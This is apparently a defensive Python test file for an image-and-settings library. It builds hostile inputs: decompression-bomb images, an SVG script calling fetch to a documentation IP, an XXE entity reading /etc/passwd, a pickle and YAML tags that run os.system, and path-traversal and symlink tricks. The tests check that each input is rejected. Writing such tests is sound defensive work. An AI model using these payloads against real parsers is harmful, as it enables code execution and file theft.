# ruff: noqa: E501  (one case a line)
"""Hostile pictures, settings, receipts and notebooks."""

import json
import os
import struct
import zlib
from pathlib import Path

import numpy as np
from PIL import Image

from tests.faults.malice.cases import HARMLESS, case, code, written
from vitlib.grid.changes import read_overrides
from vitlib.inputs.pictures import check_header, open_image
from vitlib.inputs.sets.folders import SplitFolder
from vitlib.studies.arguments import _settings
from vitlib.studies.crate import contents, writing

UNREADABLE = r"image .*photo\.\w+: cannot be read"


def look(path: Path):
    """As a set of photos is checked, and read."""
    check_header(path)
    return open_image(path, 3)


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *chunks: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


POSTSCRIPT = """%!PS-Adobe-3.0 EPSF-3.0
%%BoundingBox: 0 0 10 10
({canary}) (w) file closefile
showpage
%%EOF
"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://192.0.2.1")</script><image href="file:///etc/passwd"/></svg>'
PICTURES = {
    "a PNG of ten thousand megapixels": lambda canary: png(100_000, 100_000),
    "a PNG with a text that unpacks to 256 MiB": lambda canary: png(8, 8, chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(2**28), 1))),
    "a PNG with a profile that unpacks to 128 MiB": lambda canary: png(8, 8, chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(2**27), 1))),
    "a PNG with one number in place of its pixels": lambda canary: png(10_000, 8_000),
    "a GIF of four thousand megapixels": lambda canary: b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;",
    "a BMP of four thousand megapixels": lambda canary: b"BM" + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, 65535, 65535, 1, 24, 0, 0, 0, 0, 0, 0),
    "a PPM of ten thousand megapixels": lambda canary: b"P6 100000 100000 255\n" + bytes(100),
    "a PPM whose size has no end": lambda canary: b"P6 " + b"9" * 100_000,
    "PostScript": lambda canary: POSTSCRIPT.format(canary=canary).encode(),
    "PostScript after a binary head": lambda canary: b"\xc5\xd0\xd3\xc6" + struct.pack("<II", 30, 200) + bytes(18) + POSTSCRIPT.format(canary=canary).encode(),
    "an SVG with a script": lambda canary: SVG.encode(),
    "a web page": lambda canary: b"<html><script>alert(1)</script></html>",
    "XML that calls for a file": lambda canary: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
    "a pickle": lambda canary: b"\x80\x04cposix\nsystem\n(S'touch " + str(canary).encode() + b"'\ntR.",
    "FITS": lambda canary: b"SIMPLE  =                    T".ljust(80) + b"NAXIS   = 99999999".ljust(2800),
    "a Windows metafile": lambda canary: b"\xd7\xcd\xc6\x9a\0\0" + bytes(200),
}  # fmt: skip
for what, content in PICTURES.items():
    for suffix in ("png", "jpg") if what in ("PostScript", "an SVG with a script") else ("png",):
        case(f"picture: {what} as .{suffix}", look, UNREADABLE)(
            lambda folder, canary, content=content, suffix=suffix: written(folder / f"photo.{suffix}", content(canary))
        )


@case("picture: a TIFF of four thousand megapixels", look, UNREADABLE)
def _tiff(folder, canary):
    Image.fromarray(np.zeros((8, 8), np.uint8)).save(folder / "photo.tif")
    packed = bytearray((folder / "photo.tif").read_bytes())
    start = struct.unpack("<I", packed[4:8])[0]
    for entry in range(struct.unpack("<H", packed[start : start + 2])[0]):
        place = start + 2 + 12 * entry
        if struct.unpack("<H", packed[place : place + 2])[0] in (256, 257):
            packed[place + 2 : place + 12] = struct.pack("<HII", 4, 1, 65535)
    return written(folder / "photo.tif", bytes(packed))


def classes(path: Path):
    return SplitFolder(path).pictures()


@case("folder: a link in a circle", classes, "leads back to")
def _circle(folder, canary):
    (folder / "train" / "cat").mkdir(parents=True)
    (folder / "train" / "cat" / "again").symlink_to(folder / "train", target_is_directory=True)
    return folder / "train"


@case("folder: a pipe in place of a photo", classes, "cat.*no images in it")
def _pipe(folder, canary):
    (folder / "train" / "cat").mkdir(parents=True)
    os.mkfifo(folder / "train" / "cat" / "1.png")
    return folder / "train"


def overrides(path: Path):
    return read_overrides(path.read_text(encoding="utf-8"))


DEEP = '{"a":' * 100_000
JSON = {
    "code": lambda canary: code(canary),
    "nested without end": lambda canary: DEEP,
    "nested deeper than settings are": lambda canary: '{"a":' * 50 + "1" + "}" * 50,
    "a number without end": lambda canary: '{"a": ' + "9" * 100_000 + "}",
    "a name that moves the cursor": lambda canary: '{"\\u001b[2J": 1}',
    "a wrong half of a letter": lambda canary: '{"a": "\\ud800"}',
    "YAML that makes an object": lambda canary: f'!!python/object/apply:os.system ["touch {canary}"]',
    "ten megabytes": lambda canary: '{"a": "' + "x" * 10_000_000 + '\\n"}',
}
for what, text in JSON.items():
    case(f"overrides: {what}", overrides, "overrides|deeper|allowed")(
        lambda folder, canary, text=text: written(folder / "o.json", text(canary))
    )
TOML = {
    "code": lambda canary: code(canary),
    "a table nested without end": lambda canary: "a" + ".a" * 100_000 + " = 1",
    "a list nested without end": lambda canary: "a = " + "[" * 100_000,
    "a date": lambda canary: "a = 2024-01-01",
    "YAML that makes an object": lambda canary: f'a: !!python/object/apply:os.system ["touch {canary}"]',
    "a name twice": lambda canary: "a = 1\na = 2",
    "letters of another alphabet": lambda canary: "\ufffe = 1",
}
for what, text in TOML.items():
    case(f"settings: {what}", lambda path: _settings(str(path)), "from: got|allowed")(
        lambda folder, canary, text=text: written(folder / "settings.toml", text(canary))
    )

RECEIPT = {"notebook": "deit.ipynb", "status": "done", "seconds": 1.0, "commit": "0", "source_sha256": "0", "parameters": {}}
RECEIPTS = {
    "a notebook outside the checkout": {"notebook": "../../../etc/passwd"},
    "a notebook by its place": {"notebook": "/etc/passwd"},
    "a notebook in two lines": {"notebook": "deit.ipynb\n"},
    "parameters that are a list": {"parameters": []},
    "a commit that is a table": {"commit": {}},
    "a notebook that is a number": {"notebook": 3},
    "seconds that are code": {"seconds": "__import__('os')"},
}


def receipt(path: Path):
    return contents.found([], "quick", path)


for what, changes in RECEIPTS.items():
    case(f"receipt: {what}", receipt, r"receipt: .*receipt\.json")(
        lambda folder, canary, changes=changes: written(folder / "deit" / "quick" / "receipt.json", json.dumps(RECEIPT | changes)).parents[
            2
        ]
    )
case("receipt: nested without end", receipt, r"receipt: .*receipt\.json")(
    lambda folder, canary: written(folder / "deit" / "quick" / "receipt.json", DEEP).parents[2]
)


@case("artefacts: a link to a file elsewhere", lambda path: receipt(path)[0].files, "artefacts: .*table.csv is a link")
def _link(folder, canary):
    written(folder / "deit" / "quick" / "figure.png", b"x")
    (folder / "deit" / "quick" / "table.csv").symlink_to("/etc/passwd")
    return folder


@case("crate: a list that names files elsewhere", writing._clear, HARMLESS)
def _crate(folder, canary):
    listed = [{"@id": name, "@type": "File"} for name in ("../kept", str(folder / "kept"), "a/../../kept")]
    written(folder / "kept", b"x")
    return written(folder / "crate" / writing.METADATA, json.dumps({"@graph": listed})).parent


@case("crate: a list nested without end", writing._clear, "out: .*cannot be read")
def _crate_deep(folder, canary):
    return written(folder / "crate" / writing.METADATA, DEEP).parent
